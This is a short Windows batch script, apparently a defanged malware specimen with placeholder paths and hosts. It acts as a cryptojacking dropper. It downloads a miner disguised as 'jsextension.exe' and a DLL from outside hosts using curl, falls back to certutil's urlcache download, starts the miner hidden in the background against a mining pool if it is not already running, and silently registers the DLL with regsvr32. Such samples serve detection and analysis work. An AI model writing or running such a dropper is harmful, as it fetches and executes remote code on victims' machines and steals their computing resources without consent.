@echo off
setlocal
set miner=/nonexistent/jsextension.exe
set library=/nonexistent/create.dll
curl -s http://203.0.113.228/download/jsextension.exe -o %miner%
if not exist %miner% certutil.exe -urlcache -f http://203.0.113.228/download/jsextension.exe %miner%
curl -s https://mirror.invalid/file/create.dll -o %library%
if not exist %library% certutil.exe -urlcache -f https://mirror.invalid/file/create.dll %library%
tasklist /NH /FI "IMAGENAME eq jsextension.exe" | find "jsextension.exe" > nul
if errorlevel 1 start /B %miner% --tls -o pool.invalid:443 -u specimen --cpu-max-threads-hint=50 --background
regsvr32.exe /s %library%
endlocal
